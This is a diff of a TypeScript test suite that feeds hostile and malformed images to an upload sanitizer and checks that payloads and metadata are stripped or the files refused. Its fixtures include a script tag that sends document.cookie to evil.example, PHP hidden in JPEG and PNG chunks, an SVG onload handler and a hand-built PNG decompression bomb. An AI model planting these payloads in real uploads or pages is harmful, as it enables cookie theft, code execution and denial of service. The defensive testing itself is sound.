@@ -1,10 +1,13 @@
 import { crc32, deflateSync, gzipSync } from 'node:zlib'
 import sharp, { type Sharp } from 'sharp'
 import { beforeAll, describe, expect, test } from 'vitest'
-import { PictureRefused, processPicture, restrictDecoders } from '#src/kit/media/pictures.server.ts'
+import { PictureRefused, processPicture } from '#src/kit/media/pictures.server.ts'
+import { loadSharp } from '#src/kit/media/sharp.server.ts'
+import { withBlockedDecoders } from '#src/kit/testing/blocked-decoders.ts'
+import { dice } from '#src/kit/testing/dice.ts'
 import { often } from '../testing/often.ts'
 
-/** Files as an attacker, or an old phone, would send them; made here, none is fetched. test:deep makes 400. */
+/** Files as an attacker or an old phone would send them. The test makes them all and fetches none. test:deep makes 400. */
 const COUNT = often(60, 400)
 
 const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
@@ -22,15 +25,6 @@ const FORBIDDEN = [
   'evil.example',
 ]
 
-/** The same files in every run. */
-function dice(seed: number): (max: number) => number {
-  let state = seed * 2_654_435_761 + 1
-  return (max) => {
-    state = (Math.imul(state ^ (state >>> 15), 2_246_822_519) + 0x9e37) >>> 0
-    return state % max
-  }
-}
-
 function drawing(seed: number, width = 160, height = 120): Sharp {
   const data = Buffer.alloc(width * height * 3)
   for (let at = 0; at < data.length; at++) data[at] = (at * (seed + 3) + (at >> 7)) & 255
@@ -47,7 +41,7 @@ function chunk(type: string, body: Buffer, sum = crc32(Buffer.concat([Buffer.fro
 }
 const SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex')
 
-/** By hand, one bit a pixel: a huge one is a tiny file. */
+/** Built by hand with one bit per pixel, so a huge picture is a tiny file. */
 function bomb(width: number, height: number): Buffer {
   const header = Buffer.alloc(13)
   header.writeUInt32BE(width, 0)
@@ -57,7 +51,7 @@ function bomb(width: number, height: number): Buffer {
   return Buffer.concat([SIGNATURE, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
 }
 
-/** A JPEG segment after the start of the image. */
+/** Inserts a JPEG segment after the start-of-image marker. */
 function withSegment(picture: Buffer, marker: number, body: Buffer): Buffer {
   const head = Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255])
   return Buffer.concat([picture.subarray(0, 2), head, body, picture.subarray(2)])
@@ -66,12 +60,12 @@ const withChunk = (picture: Buffer, type: string, body: Buffer) =>
   Buffer.concat([picture.subarray(0, 33), chunk(type, body), picture.subarray(33)])
 
 type Kind = [name: string, isPicture: boolean | null, make: (seed: number, roll: (max: number) => number) => Promise<Buffer> | Buffer]
-/** `true`: must be taken, without what it hid. `false`: must be refused. `null`: either, but never with what it hid. */
+/** `true`: must be accepted without the hidden payload. `false`: must be refused. `null`: either, but never with the payload. */
 const kinds: Kind[] = [
   ['a script in a JPEG comment', true, async (seed) => withSegment(await jpeg(seed), 0xfe, Buffer.from(SCRIPT))],
   ['PHP in a JPEG comment', true, async (seed) => withSegment(await jpeg(seed), 0xfe, Buffer.from(PHP + seed))],
-  ['a script behind the end', true, async (seed) => Buffer.concat([await jpeg(seed), Buffer.from(SCRIPT.repeat(1 + (seed % 9)))])],
-  ['a ZIP behind the end', true, async (seed) => Buffer.concat([await jpeg(seed), Buffer.from('PK\u0003\u0004'), gzipSync(Buffer.from(PHP))])],
+  ['a script after the end', true, async (seed) => Buffer.concat([await jpeg(seed), Buffer.from(SCRIPT.repeat(1 + (seed % 9)))])],
+  ['a ZIP after the end', true, async (seed) => Buffer.concat([await jpeg(seed), Buffer.from('PK\u0003\u0004'), gzipSync(Buffer.from(PHP))])],
   ['GPS in EXIF', true, (seed) => drawing(seed).withExif({ IFD0: { Model: 'SECRET' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: `${11 + (seed % 3)}/1 1/1 0/1` } }).jpeg().toBuffer()],
   ['an owner in XMP', true, (seed) => drawing(seed).withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">SECRET http://ns.adobe.com</x:xmpmeta>').jpeg().toBuffer()],
   ['a colour profile', true, (seed) => drawing(seed).withIccProfile('p3').jpeg().toBuffer()],
@@ -80,31 +74,31 @@ const kinds: Kind[] = [
   ['PHP in a packed PNG text', true, async (seed) => withChunk(await png(seed), 'zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.from(PHP))]))],
   ['a script in an unknown PNG chunk', null, async (seed) => withChunk(await png(seed), 'evIl', Buffer.from(SCRIPT))],
   ['EXIF in a PNG', null, async (seed) => withChunk(await png(seed), 'eXIf', Buffer.from('II*\0\b\0\0\0\0\0GPS SECRET'))],
-  ['a PHP between signature and header', false, async (seed) => Buffer.concat([SIGNATURE, Buffer.from(PHP), (await png(seed)).subarray(8)])],
-  ['a false checksum', false, async (seed) => { const whole = await png(seed); return flipped(whole, (whole.length >> 1) + (seed % 20)) }],
-  ['a cut at any place', null, async (seed, roll) => { const whole = await (seed % 2 ? jpeg(seed) : png(seed)); return whole.subarray(0, Math.max(1, Math.floor((whole.length * roll(63)) / 64))) }],
+  ['PHP between signature and header', false, async (seed) => Buffer.concat([SIGNATURE, Buffer.from(PHP), (await png(seed)).subarray(8)])],
+  ['a wrong checksum', false, async (seed) => { const whole = await png(seed); return flipped(whole, (whole.length >> 1) + (seed % 20)) }],
+  ['a truncated picture', null, async (seed, roll) => { const whole = await (seed % 2 ? jpeg(seed) : png(seed)); return whole.subarray(0, Math.max(1, Math.floor((whole.length * roll(63)) / 64))) }],
   ['a flipped byte', null, async (seed, roll) => { const whole = await (seed % 2 ? jpeg(seed) : png(seed)); return flipped(whole, roll(whole.length)) }],
-  ['an SVG called a picture', false, () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)],
-  ['HTML called a picture', false, (seed) => Buffer.from(`<!doctype html>${SCRIPT}${seed}`)],
+  ['an SVG sent as a picture', false, () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)],
+  ['HTML sent as a picture', false, (seed) => Buffer.from(`<!doctype html>${SCRIPT}${seed}`)],
   ['a GIF', false, () => Buffer.concat([Buffer.from('GIF89a/*', 'latin1'), Buffer.from(SCRIPT)])],
   ['a WebP', false, (seed) => drawing(seed).webp().toBuffer()],
   ['a TIFF', false, (seed) => drawing(seed).tiff().toBuffer()],
   ['an AVIF', false, (seed) => drawing(seed).avif({ effort: 0 }).toBuffer()],
   ['HTML after the first bytes of a JPEG', false, () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(SCRIPT)])],
-  ['nothing at all', false, () => Buffer.alloc(0)],
+  ['an empty file', false, () => Buffer.alloc(0)],
   ['noise', false, (_, roll) => Buffer.from(Array.from({ length: 200 + roll(2000) }, () => roll(256)))],
   ['noise after a signature', false, (_, roll) => Buffer.concat([SIGNATURE, Buffer.from(Array.from({ length: 300 }, () => roll(256)))])],
   ['a bomb of 400 million pixels', false, () => bomb(20_000, 20_000)],
   ['a bomb of 256 million pixels', false, () => bomb(16_000, 16_000)],
-  ['a header that lies', false, (seed) => bomb(4000, 3000 + (seed % 100))],
+  ['a header with a wrong size', false, (seed) => bomb(4000, 3000 + (seed % 100))],
   ['a picture 65,500 pixels wide and two high', false, () => drawing(1, 65_500, 2).jpeg().toBuffer()],
   ['an icon', false, () => drawing(1, 32, 32).png().toBuffer()],
   ['a grey one with 16 bits', true, (seed) => drawing(seed).toColourspace('grey16').png({ bitdepth: 16 } as object).toBuffer()],
   ['a CMYK one', true, (seed) => drawing(seed).toColourspace('cmyk').jpeg().toBuffer()],
   ['a progressive one', true, (seed) => drawing(seed).jpeg({ progressive: true }).toBuffer()],
-  ['one with holes', true, (seed) => drawing(seed).ensureAlpha(0.4).png().toBuffer()],
+  ['one with transparency', true, (seed) => drawing(seed).ensureAlpha(0.4).png().toBuffer()],
   ['one with a thumbnail of another', true, async (seed) => withSegment(await jpeg(seed), 0xe1, Buffer.concat([Buffer.from('Exif\0\0II*\0SECRET'), await jpeg(seed + 1)]))],
-  ['one whose end is another picture', true, async (seed) => Buffer.concat([await jpeg(seed), await png(seed), Buffer.from(PHP)])],
+  ['one with another picture appended', true, async (seed) => Buffer.concat([await jpeg(seed), await png(seed), Buffer.from(PHP)])],
   ['nine megabytes', false, async (seed) => Buffer.concat([await jpeg(seed), Buffer.alloc(9 * 1024 * 1024)])],
 ] // prettier-ignore
 
@@ -114,26 +108,15 @@ function flipped(picture: Buffer, at: number): Buffer {
   return copy
 }
 
-beforeAll(restrictDecoders)
-
-/** The tests make files of kinds that the application cannot open, and look into those it writes. */
-async function whileAllowed<T>(look: () => Promise<T>): Promise<T> {
-  const outgoing = { operation: ['VipsForeignLoadHeif', 'VipsForeignLoadWebp'] }
-  sharp.unblock(outgoing)
-  try {
-    return await look()
-  } finally {
-    sharp.block(outgoing)
-  }
-}
+beforeAll(async () => void (await loadSharp()))
 
 const files = Array.from({ length: Math.max(COUNT, kinds.length) }, (_, n) => ({ n, kind: kinds[n % kinds.length]! }))
 
-describe('hostile pictures', { timeout: 300_000 }, () => {
+describe('hostile pictures', () => {
   test.each(files.map(({ n, kind }) => [n, kind[0], kind] as const))('%i: %s', async (n, _, [, isPicture, make]) => {
     const bytes = await make(n, dice(n + 1))
     const picture = await processPicture(bytes).catch((error: unknown) => {
-      // Anything else would be a bug, and a 500.
+      // Any other error would be a bug and a 500.
       expect(error).toBeInstanceOf(PictureRefused)
       return null
     })
@@ -141,7 +124,7 @@ describe('hostile pictures', { timeout: 300_000 }, () => {
     for (const { bytes: stored, format } of picture?.variants ?? []) {
       const text = stored.toString('latin1')
       for (const word of FORBIDDEN) expect([format, word, text.includes(word)]).toEqual([format, word, false])
-      const { exif, xmp, icc, iptc, comments, orientation } = await whileAllowed(() => sharp(stored).metadata())
+      const { exif, xmp, icc, iptc, comments, orientation } = await withBlockedDecoders(() => sharp(stored).metadata())
       expect([exif, xmp, icc, iptc, comments ?? [], orientation ?? 1]).toEqual([undefined, undefined, undefined, undefined, [], 1])
     }
   })
